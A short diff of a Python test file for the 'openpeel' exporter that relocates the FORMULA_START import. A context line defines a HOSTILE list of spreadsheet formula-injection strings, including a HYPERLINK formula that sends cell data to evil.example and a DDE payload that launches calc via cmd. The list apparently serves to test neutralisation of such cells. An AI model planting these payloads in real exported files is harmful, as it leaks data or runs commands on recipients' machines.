@@ -13,8 +13,9 @@ from openpyxl import load_workbook
 from typer.testing import CliRunner
 
 from openpeel.cli import app
-from openpeel.indicators.export import FORMULA_START, export, neutralise
+from openpeel.indicators.export import export, neutralise
 from openpeel.warehouse import connect
+from openpeel.warehouse.sql import FORMULA_START
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"]
 
